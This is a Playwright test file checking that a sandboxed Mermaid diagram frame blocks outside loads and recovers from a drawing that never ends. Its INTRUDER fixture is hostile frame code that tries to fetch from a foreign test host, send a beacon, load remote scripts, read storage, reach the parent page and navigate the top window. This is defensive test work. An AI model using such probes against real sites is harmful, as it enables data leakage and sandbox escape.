import { HOSTILE } from './fixtures/data/diagrams.ts';
import { draw, expect, statesOf, svgOf, test } from './fixtures/diagram-test.ts';

/** The module of the frame that draws. */
const DRAWING = '**/frames/diagrams/*/mermaid-drawing.js';

/** Draws by trying to load, to store and to reach something. The drawing says what succeeded. */
const INTRUDER = (foreign: string, own: string) => `
  const succeeded = [];
  const attempt = async (name, action) => {
    try {
      await action();
      succeeded.push(name);
    } catch {}
  };
  // Firefox reports some refusals by this event only.
  const load = (tag, properties) =>
    new Promise((resolve, reject) => {
      const element = Object.assign(document.createElement(tag), properties);
      element.onload = resolve;
      element.onerror = reject;
      document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
        if (blockedURI === (element.src ?? element.href)) reject();
      });
      document.body.append(element);
    });
  export async function drawDiagram() {
    await attempt('fetch', () => fetch('${foreign}/fetch', { mode: 'no-cors' }));
    await attempt('fetch from this server', () => fetch('${own}/api/health', { mode: 'no-cors' }));
    await attempt('image', () => load('img', { src: '${foreign}/image' }));
    await attempt('image of this server', () => load('img', { src: '${own}/icons/icon-192.png' }));
    await attempt('script', () => load('script', { src: '${foreign}/script' }));
    await attempt('module', () => import('${foreign}/module'));
    await attempt('style', () => load('link', { rel: 'stylesheet', href: '${foreign}/style' }));
    await attempt('evaluation', () => new Function(''));
    await attempt('storage', () => localStorage.length);
    await attempt('the page', () => parent.document.body);
    await attempt('a navigation of the page', () => { top.location = '${foreign}/top'; });
    await attempt('a window', () => open('${foreign}/window').document);
    await attempt('a beacon', () => { throw navigator.sendBeacon('${foreign}/beacon'); }); // counts where it arrives
    document.body.innerHTML = '<i style="background: url(${foreign}/background)" onclick="parent.postMessage(1)">x</i>';
    document.body.firstChild.click();
    return '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>' + succeeded + '</text></svg>';
  }`;

test.describe('the frame that draws', () => {
  test.use({ failOnPageErrors: false }); // Chromium logs what the policy of the frame refuses

  test('refuses what a diagram would load', async ({ page, upstream, foreign }) => {
    const refused: string[] = [];
    page.on('console', (message) => {
      if (/content security policy/i.test(message.text())) refused.push(message.text());
    });
    await page.goto('/');
    const diagrams = [
      HOSTILE.images?.['an image'],
      HOSTILE.styles?.['a class in a state diagram'],
      HOSTILE.icons?.['an icon'],
    ];
    const texts = diagrams.map((diagram, index) => diagram?.(`http:${foreign.hosts[0]}/${index}`) ?? '');
    await draw(page, upstream, texts);
    for (const index of texts.keys())
      await expect.poll(() => refused.join()).toContain(`${foreign.hosts[0]}/${index}`);
    expect(foreign.arrivals).toEqual([]);
  });

  test('can request, store and reach nothing, whatever runs in it', { tag: '@firefox' }, async ({
    page,
    upstream,
    server,
    foreign,
  }) => {
    await page.route(DRAWING, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: INTRUDER(`http:${foreign.hosts[0]}`, server.url),
      }),
    );
    await page.goto('/');
    const boxes = await draw(page, upstream, ['flowchart LR\n  A --> B']);
    expect(await svgOf(boxes)).toContain('<text></text>');
    expect(foreign.arrivals).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect(new URL(page.url()).origin).toBe(server.url);
  });
});

test('a diagram that is drawn without end leaves the page usable, and the next one is drawn', async ({
  page,
  upstream,
}) => {
  await page.route(
    DRAWING,
    (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'cache-control': 'no-store' },
        body: 'export function drawDiagram() { for (;;); }',
      }),
    { times: 1 },
  );
  // Shortens the time limit of a drawing until the page says otherwise.
  await page.addInitScript(() => {
    const { setTimeout } = window;
    const shortened = (handler: TimerHandler, ms?: number, ...rest: unknown[]) =>
      setTimeout(handler, ms === 20_000 && !('isPatient' in globalThis) ? 500 : ms, ...rest);
    Object.assign(window, { setTimeout: shortened });
  });
  await page.goto('/');
  const boxes = await draw(page, upstream, ['flowchart LR\n  A --> B']);
  expect(await statesOf(boxes)).toEqual(['code']);
  await page.evaluate(() => Object.assign(globalThis, { isPatient: true }));
  expect(await statesOf(await draw(page, upstream, ['flowchart LR\n  C --> D']))).toEqual(['drawn']);
});
